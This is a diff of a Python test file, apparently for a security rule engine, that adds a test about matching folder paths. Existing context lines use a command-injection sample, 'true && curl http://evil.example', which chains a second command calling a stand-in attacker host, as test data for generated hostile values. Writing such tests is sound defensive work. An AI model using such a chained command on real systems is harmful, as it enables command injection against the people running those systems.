@@ -167,3 +167,8 @@ def test_a_list_of_signs_of_a_command_is_asked_about_by_the_sign_that_it_lacks()
     passing = [one.value for one in hostile_values("command", "contains", ";")]
     assert "true && curl http://evil.example" in passing
     assert not any("&&" in str(one.value) for one in hostile_values("command", "contains", "x"))
+
+
+def test_a_part_of_a_path_with_several_names_is_a_whole_folder_or_none() -> None:
+    assert meaning_the_thing('"/srv/app/" in call.file') == '"/srv/app" in call.file.inside'
+    assert not asked_of('"srv/app" in call.file')
